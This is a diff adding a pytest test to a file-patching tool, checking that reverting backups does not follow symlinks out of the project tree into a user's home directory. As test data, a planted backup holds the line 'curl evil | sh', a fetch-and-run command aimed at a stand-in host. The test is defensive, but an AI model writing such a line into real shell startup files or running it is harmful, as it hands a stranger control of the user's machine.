@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import shutil
 import stat
 from dataclasses import replace
 from pathlib import Path
@@ -10,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from patcher.errors import Finding, Unreadable, Unwritable
-from patcher.jobs.backups import FOLDER, keeping
+from patcher.jobs.backups import FOLDER, _hash, keeping
 from patcher.jobs.in_place import Edit, patch_path, replace_sources
 from patcher.jobs.revert import revert_path
 from patcher.rules.catalogue import select
@@ -114,6 +115,30 @@ def test_one_file_that_was_changed_since_holds_all_of_them_back(tree: Path) -> N
     (tree / TARGET).write_bytes(NEEDED)
     assert [done.changed for done in revert_path(tree)] == [False, True]
     assert not (tree / FOLDER).exists()
+
+
+def test_no_link_of_a_tree_leads_a_revert_out_of_it(tree: Path, tmp_path: Path) -> None:
+    """Its author knows what stands in many a file of the person who reverts it."""
+    mine = tmp_path / "home" / ".bashrc"
+    mine.parent.mkdir()
+    mine.write_bytes(b"well known\n")
+    (tree / "vllm" / "sub").symlink_to(mine.parent)
+    kept = tree / FOLDER / "vllm" / "sub" / f".bashrc.{_hash(mine.read_bytes())}.orig"
+    kept.parent.mkdir(parents=True)
+    kept.write_bytes(b"curl evil | sh\n")
+    with pytest.raises(Finding, match="no original is kept"):
+        revert_path(tree)
+    assert mine.read_bytes() == b"well known\n"
+    # Another tree's originals are not taken, and not dropped.
+    (tree / TARGET).write_bytes(b"new")
+    theirs = tmp_path / "other" / f"{TARGET}.{_hash(b'new')}.orig"
+    theirs.parent.mkdir(parents=True)
+    theirs.write_bytes(b"precious")
+    shutil.rmtree(tree / FOLDER)
+    (tree / FOLDER).symlink_to(tmp_path / "other")
+    with pytest.raises(Finding, match="no original is kept"):
+        revert_path(tree)
+    assert (theirs.read_bytes(), (tree / TARGET).read_bytes()) == (b"precious", b"new")
 
 
 def test_without_an_original_nothing_is_reverted(tree: Path) -> None:
